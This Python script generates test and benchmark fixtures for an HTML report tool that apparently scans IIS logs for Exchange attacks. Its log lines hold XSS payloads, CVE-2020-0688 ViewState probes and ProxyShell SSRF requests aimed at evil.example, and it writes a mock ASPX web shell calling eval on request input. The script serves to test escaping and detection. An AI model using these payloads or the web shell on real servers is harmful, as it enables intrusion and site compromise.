#!/usr/bin/env python3
"""Trees for the HTML report tests (tests/html/run.sh) and benchmark (bench/html.py).

    python3 tests/html/gen_trees.py hostile OUT     log lines and a page whose evidence
                                                    carries markup, javascript: and bidi
                                                    controls (each would set window.__pwned
                                                    or the title if it ran)
    python3 tests/html/gen_trees.py busy OUT [N]    an IIS log of N (default 100000)
                                                    CVE-2020-0688 ViewState probes, each from
                                                    its own address, plus a few other shapes:
                                                    N findings
    python3 tests/html/gen_trees.py exploits OUT [N] N answered ProxyShell SSRF requests
                                                    (exploitation: never folded), each from
                                                    its own address

Standard library only; the same arguments give the same bytes.
"""

import os
import sys

IIS_HEADER = (
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Version: 1.0\n"
    "#Date: {date} 00:00:00\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
)

SCRIPT = '<script>window.__pwned=1;document.title="pwned"</script>'
IMG = '"><img/src=x/onerror=window.__pwned=2>'  # no spaces: one IIS field
BIDI = "\u202e\u2066\u200b"


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def hostile(out):
    logs = os.path.join(out, "inetpub", "logs", "LogFiles", "W3SVC1")
    ua = "Mozilla/5.0+" + SCRIPT.replace(" ", "+")
    lines = [
        # a ProxyLogon-shaped POST whose query and referer carry markup
        f"2021-03-03 02:11:05 10.0.0.5 POST /ecp/y.js a={SCRIPT}{IMG} 443 - 203.0.113.66 {ua} "
        "javascript:alert(1) 200 0 0 3",
        # a ViewState probe with markup, </style> and bidi controls in the query
        f"2021-03-03 02:12:05 10.0.0.5 GET /ecp/default.aspx "
        f"__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy{SCRIPT}</style>{BIDI}x"
        f"'\"&amp;javascript:window.__pwned=5 443 - 203.0.113.67 {ua} - 302 0 0 3",
        f"2021-03-03 02:13:05 10.0.0.5 POST /ecp/z.js b=</textarea></title>{SCRIPT} 443 - "
        f"203.0.113.68 javascript:window.__pwned=3 - 200 0 0 3",
    ]
    write(os.path.join(logs, "u_ex210303.log"), IIS_HEADER.format(date="2021-03-03") + "\n".join(lines) + "\n")
    page = (
        '<%@ Page Language="C#" %><script runat="server">void Page_Load(){ '
        'eval(Request["x"],"unsafe"); }</script>'
        + SCRIPT
        + "</style><img src=x onerror=\"window.__pwned=4\">"
        + BIDI
    )
    write(os.path.join(out, "inetpub", "wwwroot", "aspnet_client", "inv" + BIDI + "txt<b>.aspx"), page)


def busy(out, n):
    logs = os.path.join(out, "inetpub", "logs", "LogFiles", "W3SVC1")
    ua = (
        "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+"
        "Chrome/80.0.3987.116+Safari/537.36"
    )
    rows = []
    for i in range(n):
        # 198.18.0.0/15: 131,072 benchmark addresses, one per probe
        ip = "198.%d.%d.%d" % (18 + (i >> 16) % 2, (i >> 8) & 255, i & 255)
        sec = i * 86399 // max(n, 1)
        t = "%02d:%02d:%02d" % (sec // 3600, sec // 60 % 60, sec % 60)
        if i % 1000 == 999:  # another shape now and then
            rows.append(f"2021-08-27 {t} 10.10.0.25 POST /ecp/x{i % 7}.js - 443 - {ip} {ua} - 200 0 0 3")
        else:
            rows.append(
                f"2021-08-27 {t} 10.10.0.25 GET /ecp/default.aspx "
                f"__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEy{i:08x} 443 - {ip} {ua} - 302 0 0 3"
            )
    write(os.path.join(logs, "u_ex210827.log"), IIS_HEADER.format(date="2021-08-27") + "\n".join(rows) + "\n")


def exploits(out, n):
    logs = os.path.join(out, "inetpub", "logs", "LogFiles", "W3SVC1")
    ua = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+Chrome/92.0.4515.131"
    rows = []
    for i in range(n):
        ip = "198.%d.%d.%d" % (18 + (i >> 16) % 2, (i >> 8) & 255, i & 255)
        sec = i * 86399 // max(n, 1)
        t = "%02d:%02d:%02d" % (sec // 3600, sec // 60 % 60, sec % 60)
        rows.append(
            f"2021-08-27 {t} 10.10.0.25 GET /autodiscover/autodiscover.json "
            f"@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example&n={i} "
            f"443 - {ip} {ua} - 200 0 0 2214"
        )
    write(os.path.join(logs, "u_ex210827.log"), IIS_HEADER.format(date="2021-08-27") + "\n".join(rows) + "\n")


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in ("hostile", "busy", "exploits"):
        sys.exit(__doc__)
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 100000
    if sys.argv[1] == "hostile":
        hostile(sys.argv[2])
    elif sys.argv[1] == "busy":
        busy(sys.argv[2], n)
    else:
        exploits(sys.argv[2], n)


if __name__ == "__main__":
    main()
